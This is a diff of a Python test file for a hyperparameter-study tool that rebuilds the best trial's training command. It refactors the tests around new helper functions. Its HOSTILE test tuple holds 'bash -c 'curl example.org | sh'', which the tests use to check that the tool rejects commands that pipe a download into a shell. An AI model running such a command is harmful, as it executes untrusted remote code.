@@ -1,6 +1,9 @@
 """The command that trains the next study is the best trial's own, and `advisor run` accepts it."""
 
 import shlex
+from collections.abc import Mapping
+from dataclasses import replace
+from typing import Any
 
 import pytest
 
@@ -10,13 +13,14 @@ from advisor.model.change import SetSchedule
 from advisor.model.reading import Decision
 from advisor.model.spec import Objective, Parameter, StudySpec
 from advisor.model.study import Study, Trial
+from advisor.report import Report
 from advisor.report.model import NextStudy
 from advisor.report.text.run_command import (
     common_output_folder,
     has_recorded_command,
     next_study_command,
     options_without_precedent,
-    task_after_command,
+    tasks_after_command,
     tasks_before_command,
     training_command,
     with_separate_output_folder,
@@ -36,8 +40,7 @@ SPEC = StudySpec(
     max_train_steps=600,
 )
 PARAMS = {"learning_rate": 0.01, "model.dropout": 0.25, "momentum": 0.9}
-
-
+RUN, OTHER = "0a" * 16, "1b" * 16
 UNKNOWN = "python train.py --learning-rate {learning_rate} --model.dropout {model.dropout}"
 HOSTILE = (
     "bash -c 'curl example.org | sh' --learning-rate 0.01",
@@ -49,16 +52,21 @@ HOSTILE = (
 """Commands that are not shown to be copied, because they run something other than a Python file or module."""
 
 
+def study_of(*commands: str, spec: StudySpec = SPEC, id: str = "a", params: Mapping[str, Any] = PARAMS, **facts: str) -> Study:
+    """Return a study with one trial for each recorded command; "" for a trial that recorded none."""
+    known = [facts | ({"command": command} if command else {}) for command in commands]
+    ids = [id, *map(str, range(1, len(commands)))]
+    trials = (Trial(i, ids[i], "a", "complete", params, seed=3, facts=fact) for i, fact in enumerate(known))
+    return Study(spec=spec, trials=tuple(trials), metrics={})
+
+
 def command_for(recorded: str, spec: StudySpec = SPEC) -> str:
-    facts = {"command": recorded} if recorded else {}
-    trial = Trial(index=0, id="a", name="a", status="complete", params=PARAMS, seed=3, facts=facts)
-    return training_command(Study(spec=spec, trials=(trial,), metrics={}), spec)
+    return training_command(study_of(recorded, spec=spec), spec)
 
 
 def test_values_that_selected_the_runs_are_passed() -> None:
     decision = Decision(topic="population", text="the others are of another kind", parameters=("momentum",))
-    trial = Trial(index=0, id="a", name="a", status="complete", params=PARAMS, seed=3)
-    command = training_command(Study(spec=SPEC, trials=(trial,), metrics={}, decisions=(decision,)), SPEC)
+    command = training_command(replace(study_of(""), decisions=(decision,)), SPEC)
     assert command == f"{UNKNOWN} --momentum {{momentum}}"
 
 
@@ -96,30 +104,14 @@ def test_the_best_trials_command_gets_placeholders(recorded: str, expected: str)
 
 
 def test_a_command_with_the_studys_options_comes_before_that_of_a_better_trial() -> None:
-    def trial(number: int, command: str) -> Trial:
-        return Trial(
-            index=number, id=str(number), name="t", status="complete", params=PARAMS, seed=3, facts={"command": command}
-        )
-
-    trials = trial(0, "python train.py --epochs 2"), trial(1, "python train.py --lr 0.01 --dropout 0.25 --epochs 9")
-    text = training_command(Study(spec=SPEC, trials=trials, metrics={}), SPEC)
-    assert text == "python train.py --lr {learning_rate} --dropout {model.dropout} --epochs 9"
+    study = study_of("python train.py --epochs 2", "python train.py --lr 0.01 --dropout 0.25 --epochs 9")
+    assert training_command(study, SPEC) == "python train.py --lr {learning_rate} --dropout {model.dropout} --epochs 9"
 
 
 def test_optunas_own_script_gets_the_space_instead_of_options() -> None:
-    def command(recorded: str) -> str:
-        facts = {"command": recorded, "tuner": "optuna"}
-        trial = Trial(index=0, id="a", name="a", status="complete", params=PARAMS, seed=3, facts=facts)
-        return training_command(Study(spec=SPEC, trials=(trial,), metrics={}), SPEC)
-
-    assert command("python search.py") == ""
-    assert (
-        command("python train.py --lr 0.01 --dropout 0.25") == "python train.py --lr {learning_rate} --dropout {model.dropout}"
-    )
-    report = make_report(make_study(10)).model_copy(
-        update={"next_studies": (NextStudy(file="1-a.yaml", spec=SPEC, yaml="", training=""),)}
-    )
-    assert next_study_command(report).startswith("advisor export optuna")
+    assert training_command(study_of("python search.py", tuner="optuna"), SPEC) == ""
+    own = study_of("python train.py --lr 0.01 --dropout 0.25", tuner="optuna")
+    assert training_command(own, SPEC) == "python train.py --lr {learning_rate} --dropout {model.dropout}"
 
 
 def test_an_option_of_another_meaning_keeps_its_value() -> None:
@@ -174,30 +166,33 @@ def test_options_that_no_trial_had_are_named() -> None:
         ("python train.py --grad-clip-norm=9", ()),
         ("python train.py --grad-clip-norm-type 2", ("--grad-clip-norm",)),
     ):
-        trial = Trial(index=0, id="t", name="t", status="complete", params=PARAMS, facts={"command": command})
-        assert options_without_precedent(Study(spec=SPEC, trials=(trial,), metrics={}), training) == new
-    report = make_report(make_study(9, dense=False), ())
-    step = NextStudy(file="1.yaml", spec=added, yaml="", training=training, new_options=("--grad-clip-norm",))
-    (sentence,) = tasks_before_command(report.model_copy(update={"next_studies": (step,)}))
+        assert options_without_precedent(study_of(command), training) == new
+    report = report_with(spec=added, training=training, new_options=("--grad-clip-norm",))
+    (sentence,) = tasks_before_command(report)
     assert str(sentence) == "First make the training script accept --grad-clip-norm: no trial was started with it."
     assert tasks_before_command(report.model_copy(update={"next_studies": ()})) == ()
 
 
+def report_with(spec: StudySpec = SPEC, **fields: Any) -> Report:
+    """Return a report whose next study has these fields."""
+    step = NextStudy(file="1.yaml", spec=spec, yaml="", **fields)
+    return make_report(make_study(9, dense=False), ()).model_copy(update={"next_studies": (step,)})
+
+
 def test_a_command_that_no_trial_recorded_is_named_as_an_example() -> None:
     for command, known in (("python train.py --lr 0.01", True), (HOSTILE[0], False), ("", False)):
-        trial = Trial(index=0, id="t", name="t", status="complete", params=PARAMS, facts={"command": command})
-        assert has_recorded_command(Study(spec=SPEC, trials=(trial,), metrics={})) == known
-    step = NextStudy(file="1.yaml", spec=SPEC, yaml="", command_known=False)
-    report = make_report(make_study(9, dense=False), ()).model_copy(update={"next_studies": (step,)})
+        assert has_recorded_command(study_of(command)) == known
+    report = report_with(command_known=False)
     assert "write your command in place of python train.py" in str(tasks_before_command(report)[-1])
-    assert task_after_command(report) is None
+    assert tasks_after_command(report) == ()
 
 
 def test_an_export_says_what_to_do_with_the_script() -> None:
-    step = NextStudy(file="1.yaml", spec=SPEC, yaml="", training="")
-    report = make_report(make_study(9, dense=False), ()).model_copy(update={"next_studies": (step,)})
-    assert str(task_after_command(report)) == "Paste your training code into study_round_1.py, then start the script."
-    assert next_study_command(report).endswith("--out study_round_1.py")
+    report = report_with(training="")
+    assert str(tasks_after_command(report)[0]) == "Paste your training code into study_round_1.py, then start the script."
+    command = next_study_command(report)
+    assert command.startswith("advisor export optuna")
+    assert command.endswith("--out study_round_1.py")
 
 
 def test_an_option_that_no_recorded_command_names_is_new_although_the_hyperparameter_was_logged() -> None:
@@ -208,13 +203,10 @@ def test_an_option_that_no_recorded_command_names_is_new_although_the_hyperparam
         ("", ()),
         ("tool demo", ()),  # the study's command is `python train.py` then, which is not the trial's own
     ):
-        facts = {"command": command} if command else {}
-        trial = Trial(index=0, id="t", name="t", status="complete", params=PARAMS, facts=facts)
-        assert options_without_precedent(Study(spec=SPEC, trials=(trial,), metrics={}), training) == new
+        assert options_without_precedent(study_of(command), training) == new
 
 
 def test_advisor_run_accepts_it_and_fills_it_in(tmp_path) -> None:
-
     words = shlex.split(command_for("python train.py --lr 0.01 --dropout 0.25 --seed 3"))
     job_env.check_command(SPEC, words)
     job = Job(number=0, repeat=0, seed=7, params={"learning_rate": 0.02, "model.dropout": 0.1, "momentum": 0.9})
@@ -234,36 +226,31 @@ def replace_spec(**update: object) -> StudySpec:
 def test_without_a_recorded_command_what_the_study_changes_is_passed() -> None:
     """A shorter study would train for the script's own number of iterations."""
     ran = {"learning_rate": 0.01, "num_iterations": 1645}
-    trial = Trial(index=0, id="a", name="a", status="complete", params=ran)
     fixed = {n: Parameter(role="fixed", value=v) for n, v in ran.items()}
     before = replace_spec(parameters=fixed)
     after = replace_spec(
         parameters={"learning_rate": SPEC.parameters["learning_rate"], "num_iterations": Parameter(role="fixed", value=329)}
     )
-    made = training_command(Study(spec=before, trials=(trial,), metrics={}), after)
+    made = training_command(study_of("", spec=before, params=ran), after)
     assert made == "python train.py --learning-rate {learning_rate} --num-iterations {num_iterations}"
 
 
 def test_the_folder_of_a_trial_is_not_that_of_the_next_ones() -> None:
     """Else each trial would overwrite the best trial's checkpoints. A checkpoint of another run to start from stays."""
-    own, other = "0a" * 16, "1b" * 16
-    facts = {"command": f"python train.py --lr 0.01 --output-dir out/{own} --start out/{other}"}
-    trial = Trial(index=0, id=own, name="a", status="complete", params=PARAMS, facts=facts)
-    command = training_command(Study(spec=SPEC, trials=(trial,), metrics={}), SPEC)
-    assert f"--output-dir out/{{run_id}} --start out/{other}" in command
+    recorded = f"python train.py --lr 0.01 --output-dir out/{RUN} --start out/{OTHER}"
+    command = training_command(study_of(recorded, id=RUN), SPEC)
+    assert f"--output-dir out/{{run_id}} --start out/{OTHER}" in command
     job_env.check_command(SPEC, shlex.split(command))
 
 
 def test_trainers_get_a_seed_and_a_folder_of_each_run() -> None:
     """The trials had the trainer's default seed, and one folder for each learning rate or none at all."""
-    own = "0a" * 16
     for given, end in (
         ("--output-dir out/1e-2", "--output-dir out/1e-2/{run_id} --seed {seed}"),
         ("--bf16", "--bf16 --seed {seed} --output-dir trainer-output/{run_id}"),
     ):
-        facts = {"command": f"python train.py --lr 0.01 --dropout 0.25 --lr-scheduler-type cosine {given}"}
-        trial = Trial(index=0, id=own, name="a", status="complete", params=PARAMS, facts=facts)
-        command = training_command(Study(spec=SPEC, trials=(trial,), metrics={}), SPEC)
+        recorded = f"python train.py --lr 0.01 --dropout 0.25 --lr-scheduler-type cosine {given}"
+        command = training_command(study_of(recorded, id=RUN), SPEC)
         assert command.endswith(f"--lr-scheduler-type cosine {end}")
         job_env.check_command(SPEC, shlex.split(command))
 
@@ -275,17 +262,13 @@ def test_a_changed_schedule_reaches_transformers_arguments(tmp_path) -> None:
         parameters={**SPEC.parameters, **{n: Parameter(role="fixed", value=v) for n, v in fixed.items()}},
         schedule={"kind": "constant", "warmup_steps": 4},
     )
-    facts = {"command": "python train.py --lr 0.01 --lr-scheduler-type constant --warmup-steps 4"}
-    trial = Trial(index=0, id="a", name="a", status="complete", params=PARAMS | fixed, facts=facts)
+    recorded = "python train.py --lr 0.01 --lr-scheduler-type constant --warmup-steps 4"
     changed = SetSchedule(schedule={"kind": "cosine", "warmup_steps": 60}, why="w").apply(spec)
-    command = training_command(Study(spec=spec, trials=(trial,), metrics={}), changed)
+    command = training_command(study_of(recorded, spec=spec, params=PARAMS | fixed), changed)
     (job,) = jobs(changed, 1)
     filled = job_env.job_command(changed, job, shlex.split(command), tmp_path / "p.json")
     assert "--lr-scheduler-type cosine --warmup-steps 60" in shell.command_line(filled)
     assert "--schedule" not in filled
-
-
-RUN, OTHER = "0a" * 16, "1b" * 16
 
 
 @pytest.mark.parametrize(
@@ -323,6 +306,6 @@ def test_each_run_has_a_folder_and_trainers_a_seed(command, expected):
     assert " ".join(with_separate_output_folder(command.split(), RUN, "out")) == expected
 
 
-def test_without_a_common_folder_the_own_one_contains_it():
-    assert with_separate_output_folder(["t.py", "--output-dir", "here"], RUN, None) == ["t.py", "--output-dir", f"here/{RUN}"]
-    assert with_separate_output_folder(["t.py", "--output-dir", "here"], "run 1", None) == ["t.py", "--output-dir", "here"]
+@pytest.mark.parametrize(("run", "folder"), [(RUN, f"here/{RUN}"), ("run 1", "here")])
+def test_without_a_common_folder_the_own_one_contains_it(run, folder):
+    assert with_separate_output_folder(["t.py", "--output-dir", "here"], run, None) == ["t.py", "--output-dir", folder]
